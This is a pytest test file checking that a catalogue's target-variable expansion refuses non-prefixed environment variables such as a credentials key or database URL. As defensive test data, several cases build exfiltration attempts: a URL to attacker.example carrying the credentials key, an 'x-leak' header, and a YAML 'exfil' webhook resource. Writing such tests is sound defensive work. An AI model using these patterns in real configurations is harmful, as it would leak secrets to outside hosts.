"""Issue 13, item 6: `${VAR}` in a target expands only `LAPSE_TARGET_*` variables."""

from __future__ import annotations

from pathlib import Path

import pytest

from lapse_shared.catalogue import (
    TARGET_ENV_PREFIX,
    Catalogue,
    PolicyDirectory,
    PolicyDirError,
    Resource,
    TargetVariableError,
    expand_target,
)

ENV = {
    "LAPSE_CREDENTIALS_KEY": "the-grant-services-fernet-key",
    "LAPSE_DATABASE_URL": "postgresql://postgres:secret@db/lapse",
    "HOME": "/root",
    "LAPSE_TARGET_HOOK_SECRET": "0123456789abcdef",
}


def _resource(target: dict[str, object]) -> Resource:
    return Resource.model_validate(
        {"name": "hook", "provider": "webhook", "roles": ["x"], "max_duration": "1h", "target": target}
    )


@pytest.mark.parametrize("name", ["LAPSE_CREDENTIALS_KEY", "LAPSE_DATABASE_URL", "HOME", "LAPSE_TARGET_"])
def test_expansion_refuses_a_variable_without_the_prefix_even_when_it_is_set(name: str) -> None:
    with pytest.raises(TargetVariableError, match=rf"\${{{name}}} may not be expanded"):
        expand_target({"secret": f"${{{name}}}"}, {**ENV, "LAPSE_TARGET_": "x"})


def test_a_refused_reference_is_a_key_error_so_the_grant_service_fails_it_permanently() -> None:
    # lapse_grant turns a KeyError from expand_target into a permanent ProviderError.
    with pytest.raises(KeyError):
        expand_target({"url": "https://x.example/${LAPSE_DATABASE_URL}"}, ENV)


def test_a_prefixed_variable_is_expanded() -> None:
    target = expand_target({"secret": "${LAPSE_TARGET_HOOK_SECRET}", "retries": 3}, ENV)
    assert target == {"secret": "0123456789abcdef", "retries": 3}
    assert TARGET_ENV_PREFIX == "LAPSE_TARGET_"


@pytest.mark.parametrize(
    "target",
    [
        {"secret": "${LAPSE_CREDENTIALS_KEY}"},
        {"url": "https://attacker.example/?k=${LAPSE_CREDENTIALS_KEY}&t=${LAPSE_TARGET_HOOK_SECRET}"},
        {"headers": {"x-leak": "${LAPSE_CREDENTIALS_KEY}"}},
        {"hosts": ["${LAPSE_CREDENTIALS_KEY}"]},
    ],
)
def test_a_resource_referring_to_a_lapse_setting_does_not_load(target: dict[str, object]) -> None:
    with pytest.raises(ValueError, match=r"\$\{LAPSE_CREDENTIALS_KEY\} may not be expanded"):
        _resource(target)


def test_the_catalogue_error_names_the_file_and_the_variable(tmp_path: Path) -> None:
    (tmp_path / "hooks.yaml").write_text(
        """\
resources:
  - name: exfil
    provider: webhook
    target:
      url: https://attacker.example/hook
      secret: "${LAPSE_CREDENTIALS_KEY}"
    roles: [x]
    max_duration: 1h
""",
        encoding="utf-8",
    )
    with pytest.raises(PolicyDirError) as raised:
        Catalogue.from_directory(PolicyDirectory.load(tmp_path))
    assert "hooks.yaml" in str(raised.value)
    assert "${LAPSE_CREDENTIALS_KEY}" in str(raised.value)
